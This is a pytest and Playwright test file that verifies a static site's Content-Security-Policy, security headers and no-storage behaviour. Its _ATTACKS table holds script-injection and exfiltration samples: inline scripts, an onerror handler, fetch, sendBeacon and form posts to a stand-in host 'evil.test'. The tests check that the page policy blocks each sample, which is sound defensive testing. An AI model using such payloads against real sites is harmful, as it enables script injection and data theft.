"""The security policy in a browser: only files of ours run, nothing is sent, and nothing is stored."""

from __future__ import annotations

import hashlib
import re
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from built import BuiltSite, served
from legwork.theme import security_policy
from project import Project, make_project

NOWHERE = "no/such/page/"
FINDER = "finder/"


def _metas(page: Any) -> list[str]:
    return [meta.get("content") for meta in page.head("meta") if meta.get("http-equiv") == "Content-Security-Policy"]


def _directives(text: str) -> dict[str, list[str]]:
    return {name: values for name, *values in (directive.split() for directive in text.split("; "))}


# --- As it is written


@pytest.mark.slow
def test_every_page_has_its_policy_before_everything_it_governs(built: BuiltSite) -> None:
    for url, page in built.pages.items():
        assert len(_metas(page)) == 1, url
        names = [element.get("http-equiv") or element.tag for element in page.root.find("head")]
        before = names[: names.index("Content-Security-Policy")]
        assert set(before) <= {"meta", "link", "title"}, (url, before)
        rels = [link.get("rel") for link in page.root.find("head")[: len(before)] if link.tag == "link"]
        assert set(rels) <= {"canonical", "prev", "next", "icon"}, (url, rels)


@pytest.mark.slow
def test_the_policy_is_strict(built: BuiltSite) -> None:
    """Scripts are files of ours. The only inline thing that is allowed is the attribute `style`."""
    for url, page in built.pages.items():
        rules = _directives(_metas(page)[0])
        loose = {
            name for name, values in rules.items() if {"'unsafe-inline'", "'unsafe-eval'", "*", "https:", "http:"} & {*values}
        }
        assert loose == {"style-src-attr"}, url
        assert rules["default-src"] == ["'none'"] and rules["script-src"] == ["'self'"] and rules["base-uri"] == ["'none'"]
        allowed = {value for values in rules.values() for value in values if not value.startswith("'sha256-")}
        assert allowed == {"'none'", "'self'", "'unsafe-inline'", "data:"}, url


@pytest.mark.slow
def test_no_page_contains_an_inline_script(built: BuiltSite) -> None:
    """Not even data. Inline styles are those that its policy names."""
    for url, page in built.pages.items():
        assert [script for script in page.all("script") if not script.get("src")] == [], url
        assert not [name for element in page.root.iter() for name in element.attrib if str(name).lower().startswith("on")], url
        hashes = {
            f"'sha256-{b64encode(hashlib.sha256((style.text or '').encode()).digest()).decode()}'"
            for style in page.all("style")
        }
        assert hashes == {value for value in _directives(_metas(page)[0])["style-src-elem"] if value != "'self'"}, url


@pytest.mark.slow
def test_everything_that_a_page_loads_is_ours(built: BuiltSite) -> None:
    """No file is on another host, so none needs Subresource Integrity."""
    loading = {"script", "link", "img", "iframe", "source", "video", "audio", "object", "embed", "use", "image"}
    for url, page in built.pages.items():
        far = [link for link in page.links if link.tag in loading and link.url is None]
        assert [link for link in far if not (link.tag == "link" and link.href.startswith("http"))] == [], url
        assert page.meta("referrer") == "same-origin", url


@pytest.mark.slow
def test_the_headers_cover_what_a_page_cannot_set(built: BuiltSite) -> None:
    rules: dict[str, dict[str, str]] = {}
    for line in (built.folder / security_policy.HEADERS_FILE).read_text(encoding="utf-8").splitlines():
        if line.startswith("/"):
            rules[line] = {}
        else:
            name, _, value = line.strip().partition(": ")
            rules[[*rules][-1]][name] = value
    everywhere = rules.pop("/*")
    assert _directives(everywhere["Content-Security-Policy"])["frame-ancestors"] == ["'none'"]
    assert everywhere["X-Content-Type-Options"] == "nosniff"
    assert {"Referrer-Policy", "Permissions-Policy"} <= set(everywhere)
    assert {
        url: rules.pop(f"/{url}")["Cache-Control"] for url in security_policy.CACHE_LIFETIMES
    } == security_policy.CACHE_LIFETIMES
    assert len(rules) > 5
    for url, fields in rules.items():
        assert (built.folder / url[1:]).is_file(), url
        assert fields == {"Cache-Control": "public, max-age=31536000, immutable"}
        assert re.search(r"[0-9a-f]{8}", url), f"{url} is kept for ever and has no hash"


def test_hashed_files_have_rules_while_hosts_read_that_many() -> None:
    few = security_policy.headers(
        ["search/manifest.json", "index.html", *(f"search/{i:012x}.json" for i in range(security_policy.MAX_FILE_RULES))]
    )
    assert few.count("immutable") == security_policy.MAX_FILE_RULES and "manifest.json" not in few
    assert "immutable" not in security_policy.headers(
        f"search/{i:012x}.json" for i in range(security_policy.MAX_FILE_RULES + 1)
    )


def test_a_style_in_a_page_is_allowed_only_by_its_hash() -> None:
    elements = _directives(security_policy.of_page("<svg><style>a{b:c}</style></svg><style>a&gt;b{}</style>"))["style-src-elem"]
    expected = {f"'sha256-{b64encode(hashlib.sha256(text).digest()).decode()}'" for text in (b"a{b:c}", b"a>b{}")}
    assert {*elements} == {"'self'", *expected}


# --- In a browser

_LISTEN = """
window.__against = []
document.addEventListener("securitypolicyviolation", event =>
    window.__against.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile ?? ""} ${event.sample}`))
"""

_KEPT = """async () => ({
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: self.caches ? await caches.keys() : [],
    workers: navigator.serviceWorker ? (await navigator.serviceWorker.getRegistrations()).length : 0,
})"""
NOTHING = {"local": [], "session": [], "cookies": "", "databases": 0, "caches": [], "workers": 0}


@dataclass
class Visit:
    """A reader who opens pages and chooses nothing, and the messages of the browser."""

    page: Page
    address: str
    against: list[str] = field(default_factory=list)
    logged: list[str] = field(default_factory=list)
    far: list[str] = field(default_factory=list)

    def open(self, url: str) -> Page:
        self.page.goto(self.address + url, wait_until="load")
        return self.page

    def look(self) -> None:
        """Record the violations of the policy on the open page."""
        self.page.wait_for_timeout(50)
        self.against += [f"{self.page.url}: {one}" for one in self.page.evaluate("window.__against")]

    def kept(self) -> Any:
        return self.page.evaluate(_KEPT)

    def assert_quiet(self) -> None:
        assert self.against == []
        assert [text for text in self.logged if "404" not in text] == []
        assert self.far == []


@pytest.fixture
def visit(browser: Browser, server: str) -> Iterator[Visit]:
    yield from _visit(browser, server)


def _visit(browser: Browser, address: str) -> Iterator[Visit]:
    context: BrowserContext = browser.new_context()
    context.add_init_script(_LISTEN)
    page = context.new_page()
    visit = Visit(page, address)
    page.on("console", lambda message: visit.logged.append(message.text) if message.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: visit.logged.append(str(error)))
    page.on(
        "request", lambda request: visit.far.append(request.url) if not request.url.startswith((address, "data:")) else None
    )
    yield visit
    context.close()


@pytest.fixture(scope="module")
def kinds(built: BuiltSite) -> list[str]:
    """Return the index and two pages of each section of the site, and a missing page."""
    by_kind: dict[str, list[str]] = {}
    for url in built.pages:
        if url != "404.html":
            by_kind.setdefault(url.partition("/")[0], []).append(url)
    return [url for urls in by_kind.values() for url in dict.fromkeys([urls[0], urls[len(urls) // 2], urls[-1]])] + [NOWHERE]


@pytest.mark.browser
def test_reading_keeps_nothing_breaks_nothing_and_asks_nobody(visit: Visit, kinds: list[str]) -> None:
    assert len(kinds) > 25
    for url in kinds:
        page = visit.open(url)
        page.evaluate("scrollTo(0, document.body.scrollHeight)")
        page.emulate_media(media="print")
        visit.look()
        page.emulate_media(media=None)
        assert visit.kept() == NOTHING, url
    assert page.context.cookies() == []
    visit.assert_quiet()


@pytest.mark.browser
def test_using_a_page_keeps_nothing_and_breaks_nothing(visit: Visit, kinds: list[str]) -> None:
    """Search, finder, a moving figure and a printed sheet; then the only thing that is stored, by choice."""
    page = visit.open(FINDER)
    page.wait_for_function("() => document.querySelector('[data-finder]').dataset.found > 10")
    page.locator("[data-finder] input[name=level]").first.check(force=True)
    page.locator("[data-finder] input[type=search]").fill("squat")
    page.wait_for_function("() => location.hash.includes('q=squat')")
    visit.look()
    assert visit.kept() == NOTHING
    page = visit.open(next(url for url in kinds if re.match("exercises/.", url)))
    page.keyboard.press("/")
    page.locator(".lw-search__input").fill("squat")
    expect(page.locator(".lw-search [role=option]").first).to_be_visible()
    page.keyboard.press("Escape")
    visit.look()
    page = visit.open("exercises/squat/" if "exercises/squat/" in kinds else "exercises/wall-sit/")
    play = page.locator(".lw-figure__play")
    play.scroll_into_view_if_needed()
    play.click()
    page.pdf()
    visit.look()
    assert visit.kept() == NOTHING
    page.locator("label[for=__palette_2]").click()
    assert visit.kept() == NOTHING | {"local": ["/.__palette"]}
    visit.open(FINDER)
    expect(page.locator("body")).to_have_attribute("data-md-color-media", "(prefers-color-scheme: dark)")
    visit.look()
    visit.assert_quiet()


_ATTACKS: dict[str, tuple[str, str]] = {
    "inline script": ("script-src-elem", "add('script', {textContent: 'window.__ran = 1'})"),
    "script from elsewhere": ("script-src-elem", "add('script', {src: 'https://evil.test/x.js'})"),
    "script as data": ("script-src-elem", "add('script', {src: 'data:text/javascript,window.__ran=1'})"),
    "event handler": (
        "script-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.__ran=1\">')",
    ),
    "javascript link": ("script-src-elem", "add('a', {href: 'javascript:window.__ran=1'}).click()"),
    "frame": ("frame-src", "add('iframe', {src: 'https://evil.test/'})"),
    "picture from elsewhere": ("img-src", "add('img', {src: 'https://evil.test/p.png'})"),
    "request elsewhere": ("connect-src", "fetch('https://evil.test/').catch(() => {})"),
    "beacon": ("connect-src", "navigator.sendBeacon('https://evil.test/', 'x')"),
    "style element": ("style-src-elem", "add('style', {textContent: 'body{color:red}'})"),
    "style sheet from elsewhere": ("style-src-elem", "add('link', {rel: 'stylesheet', href: 'https://evil.test/x.css'})"),
    "other base": ("base-uri", "add('base', {href: 'https://evil.test/'})"),
    "form to elsewhere": ("form-action", "add('form', {action: 'https://evil.test/'}).submit()"),
    "object": ("object-src", "add('object', {data: 'https://evil.test/x.swf'})"),
    "worker": ("worker-src", "try { new Worker('data:text/javascript,1') } catch {}"),
}
_ADD = "const add = (tag, fields) => { const made = Object.assign(document.createElement(tag), fields); document.body.append(made); return made };"


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Serve the miniature's site without headers, so that only the policy in its pages applies."""
    project: Project = make_project(tmp_path_factory.mktemp("small"))
    done = project.mkdocs()
    assert done.returncode == 0, done.stderr
    (project.site / security_policy.HEADERS_FILE).unlink()
    with served(project.site) as address:
        yield address


@pytest.mark.browser
@pytest.mark.parametrize("attack", _ATTACKS)
def test_what_is_put_into_a_page_does_not_run(attack: str, browser: Browser, small: str) -> None:
    """If all other defenses fail, the policy of the page stops the script, and the browser reports it."""
    for visit in _visit(browser, small):
        page = visit.open("exercises/squat/")
        directive, script = _ATTACKS[attack]
        page.evaluate(f"() => {{ {_ADD} {script} }}")
        page.wait_for_function("name => window.__against.some(one => one.startsWith(name))", arg=directive)
        assert page.evaluate("window.__ran") is None
        assert page.url == f"{small}exercises/squat/"
        assert page.evaluate("document.baseURI") == page.url


@pytest.mark.browser
def test_a_page_cannot_be_framed(browser: Browser, server: str) -> None:
    """The header does it, on hosts that send it. A policy in a page cannot."""
    context = browser.new_context()
    page = context.new_page()
    page.set_content(f"<iframe src='{server}'></iframe>", wait_until="load")
    page.wait_for_timeout(300)
    assert all(urlsplit(frame.url).hostname != "127.0.0.1" or not frame.locator("h1").count() for frame in page.frames)
    context.close()
